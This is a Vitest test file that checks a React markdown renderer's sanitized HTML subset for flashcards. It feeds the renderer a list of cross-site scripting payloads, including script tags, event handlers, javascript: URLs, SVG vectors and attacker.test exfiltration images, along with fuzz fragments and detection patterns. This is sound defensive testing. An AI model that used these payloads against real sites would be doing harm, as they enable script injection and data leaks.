// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { MarkdownMessage, markdownRenderer } from './markdown-message';
import { htmlSubset, typesetter } from './markdown-renderer';
import { isOwnImageSource } from './own-image-source';

// The renderer, the subset and KaTeX are lazy chunks (markdown-loading.test.tsx covers the wait); here they are loaded.
beforeAll(async () => {
  await Promise.all([markdownRenderer.load(), htmlSubset.load(), typesetter.load()]);
});
afterEach(cleanup);

const renderCard = (markdown: string) => render(<MarkdownMessage markdown={markdown} allowHtmlSubset />).container;
const renderReply = (markdown: string) => render(<MarkdownMessage markdown={markdown} />).container;

/** docs/security.md 7d's families: scripts, handlers, SVG and MathML, styles, frames, forms, script and data addresses. */
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg><g/onload=alert(3)//<p>',
  '<svg><script>alert(4)</script><a xlink:href="javascript:alert(5)"><text>t</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(6)</script>">',
  '<style>@import "https://attacker.test/x.css"; body{display:none}</style>',
  '<p style="background:url(https://attacker.test/p.png)">styled</p>',
  '<a href="javascript:alert(7)">a</a>',
  '<a href=" JaVaScRiPt:alert(8)">b</a>',
  '<a href="jav&#x09;ascript:alert(9)">c</a>',
  '<a href="&#106;avascript:alert(10)">d</a>',
  '<a href="data:text/html,<script>alert(11)</script>">e</a>',
  '<a href="vbscript:msgbox(12)">f</a>',
  '<img src="data:text/html,<script>alert(13)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(14)>">',
  '<img src="https://attacker.test/p.png?d=SECRET" alt="leak">',
  '<img srcset="https://attacker.test/p.png 1x" src="/ok.png">',
  '<iframe srcdoc="<script>alert(15)</script>"></iframe>',
  '<object data="javascript:alert(16)"></object><embed src="javascript:alert(17)">',
  '<form action="https://attacker.test"><input name=q autofocus onfocus=alert(18)><button formaction=x>Go</button></form>',
  '<details open ontoggle=alert(19)><summary>s</summary>x</details>',
  '<div onclick="alert(20)" onmouseover=alert(21) class="fixed inset-0" id="root">hover</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(22)>"></noscript>',
  '<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test">',
  '<link rel="stylesheet" href="https://attacker.test/x.css">',
  '<template><img src=x onerror=alert(23)></template>',
  '<code class="math-inline">\\href{javascript:alert(24)}{x}</code>',
  '<table><tr><td background="javascript:alert(25)" onmouseover="alert(26)">cell</td></tr></table>',
  '<input type="checkbox" onclick="alert(27)"><input type="text" value="x">',
  '[md](javascript:alert(28)) ![md](https://attacker.test/md.png)',
];

/** What docs/security.md 7d forbids in the page: anything that can run, style the page, or load from elsewhere. */
function dangersIn(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    // KaTeX draws with MathML, inline styles and SVG, and a formula it cannot read as its source in its error colour
    // (`.katex-error`, style="color:…" of math-katex.ts); the blocked-image note has its icon.
    const ours = element.closest('.katex, .katex-error, [title="Images from other sites are not loaded."]') !== null;
    const forbidden = ['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'template'];
    if (forbidden.includes(tag) || (!ours && ['svg', 'math', 'button', 'textarea'].includes(tag))) {
      found.push(`<${tag}>`);
    }
    if (tag === 'input' && element.getAttribute('type') !== 'checkbox') found.push('<input> that is not a checkbox');
    if (tag === 'img' && !isOwnImageSource(element.getAttribute('src') ?? undefined)) {
      found.push(`<img src=${element.getAttribute('src')}>`);
    }
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (['id', 'srcset', 'background', 'formaction', 'xlink:href', 'action'].includes(name))
        found.push(`${tag}[${name}]`);
      if (name === 'style' && !ours) found.push(`${tag}[style]`);
      if (/^\s*(?:javascript|vbscript|data:(?!image\/png))/i.test(value)) found.push(`${tag}[${name}=${value}]`);
      if (/attacker\.test/.test(value)) found.push(`${tag}[${name}] names attacker.test`);
    }
    if (tag === 'a' && element.hasAttribute('href') && element.getAttribute('rel') !== 'noopener noreferrer') {
      if (!element.getAttribute('href')!.startsWith('#')) found.push('<a> without rel="noopener noreferrer"');
    }
  }
  return found;
}

function textNodes(root: Element): Node[] {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  const nodes: Node[] = [];
  while (walker.nextNode()) nodes.push(walker.currentNode);
  return nodes;
}

describe('MarkdownMessage with allowHtmlSubset (card faces): the sanitized HTML subset', () => {
  it.each(XSS_PAYLOADS)('leaves nothing that can run, style the page or load from elsewhere in %s', (payload) => {
    const container = renderCard(payload);
    expect(dangersIn(container)).toEqual([]);
    // Text may quote a payload; the markup may not.
    for (const text of textNodes(container)) text.textContent = '';
    expect(container.innerHTML).not.toMatch(/<script|\son\w+=|javascript:|vbscript:/i);
  });

  it('survives every mix of those payloads, their tags and their attributes (fuzzed)', () => {
    const pieces = fc.constantFrom(
      ...XSS_PAYLOADS,
      '<',
      '>',
      '"',
      '</',
      '<img src=x ',
      'onerror=alert(1) ',
      '<a href="',
      'javascript:',
      '<svg>',
      '<sub>',
      '</sub>',
      '<b>',
      '$x$',
      '\n\n',
      '`',
      '&#x09;',
      'text ',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const container = renderCard(parts.join(''));
        const dangers = dangersIn(container);
        cleanup();
        expect(dangers).toEqual([]);
      }),
      // Two formulas side by side ("$x$$x$") end as a KaTeX error span: a failure fast-check found in CI.
      { numRuns: 80, examples: [[['$x$', '$x$']]] },
    );
  }, 60_000);

  it('draws sub- and superscripts, bold, italic, underline, line breaks, lists, code and tables', () => {
    const container = renderCard(
      'H<sub>2</sub>O and x<sup>2</sup>, <b>bold</b> <i>italic</i> <u>under</u> <strong>s</strong> <em>e</em>' +
        '<br>next line <code>a &lt; b</code>\n\n' +
        '<ul><li>one</li><li>two</li></ul>\n\n<ol start="3"><li>three</li></ol>\n\n' +
        '<table><thead><tr><th>Term</th></tr></thead><tbody><tr><td>Yield</td></tr></tbody></table>\n\n' +
        '<div>Anki line 1</div><div>Anki line 2</div>',
    );
    expect(container.querySelector('sub')?.textContent).toBe('2');
    expect(container.querySelector('sup')?.textContent).toBe('2');
    expect(container.textContent).toContain('H2O and x2');
    for (const [tag, text] of [
      ['b', 'bold'],
      ['i', 'italic'],
      ['u', 'under'],
      ['strong', 's'],
      ['em', 'e'],
      ['code', 'a < b'],
      ['th', 'Term'],
      ['td', 'Yield'],
    ]) {
      expect(container.querySelector(tag!)?.textContent, tag).toBe(text);
    }
    expect(container.querySelector('br')).not.toBeNull();
    expect([...container.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two', 'three']);
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    const lines = [...container.querySelectorAll('.chat-markdown div')].filter((div) => !div.querySelector('table'));
    expect(lines.map((div) => div.textContent)).toEqual(['Anki line 1', 'Anki line 2']);
  });

  it('keeps links with the allowed protocols (new tab, no hold on us) and only the person’s card media as images', () => {
    // Decision 038: an image loads only /api/cards/media/<sha256>, not another address of ours nor another site's.
    const media = `/api/cards/media/${'c'.repeat(64)}`;
    const container = renderCard(
      '<a href="https://example.com/a">web</a> <a href="mailto:a@b.test">mail</a> <a href="/cards">ours</a> ' +
        `<img src="${media}" alt="heart"> <img src="${window.location.origin}${media}" alt="abs"> ` +
        '<img src="/api/cards/media/h.png" alt="other"> <img src="/api/user/status" alt="api"> ' +
        '<img src="https://attacker.test/p.png" alt="outside"> ![md](data:image/png;base64,AAAA)',
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a', 'mailto:a@b.test', '/cards']);
    for (const link of links) expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([media]);
    expect(container.textContent).toContain('(image blocked)');
  });

  it('renders markdown and math inside and around the HTML', () => {
    const container = renderCard('**E** = <i>m</i>c<sup>2</sup>, or \\(E=mc^2\\)\n\n<b>$\\frac{1}{2}$</b>');
    expect(container.querySelector('strong')?.textContent).toBe('E');
    expect(container.querySelector('sup')?.textContent).toBe('2');
    expect(container.querySelectorAll('b .katex, p > .katex')).toHaveLength(2);
  });

  it('shows a tag outside the subset as text, as a reply does; script-like ones still go with their content', () => {
    const container = renderCard('A <b>List<String></b> and a loan <to> a company<script>alert(1)</script>');
    expect(container.querySelector('b')?.textContent).toBe('List<String>');
    expect(container.textContent).toBe('A List<String> and a loan <to> a company');
  });

  it('keeps a card’s classes only in their own namespace, so no class of the app’s applies (decision 047)', () => {
    const container = renderCard(
      '<span class="ak-cloze">Paris</span> is in <span class="fixed inset-0 ak-x">France</span>, <b class="chat-markdown ak-1">x</b>',
    );
    expect(container.querySelector('span.ak-cloze')?.textContent).toBe('Paris');
    expect(container.querySelector('.ak-x')?.className).toBe('ak-x');
    expect(container.querySelector('.fixed, .inset-0, b.chat-markdown, [class~="ak-1"]')).toBeNull();
    expect(container.querySelector('b')?.className ?? '').toBe('');
  });

  it('is for cards only: a chat reply with the same text shows its HTML as text', () => {
    const container = renderReply('H<sub>2</sub>O and <img src=x onerror=alert(1)>');
    expect(container.querySelector('sub, img')).toBeNull();
    expect(container.textContent).toBe('H<sub>2</sub>O and <img src=x onerror=alert(1)>');
  });
});
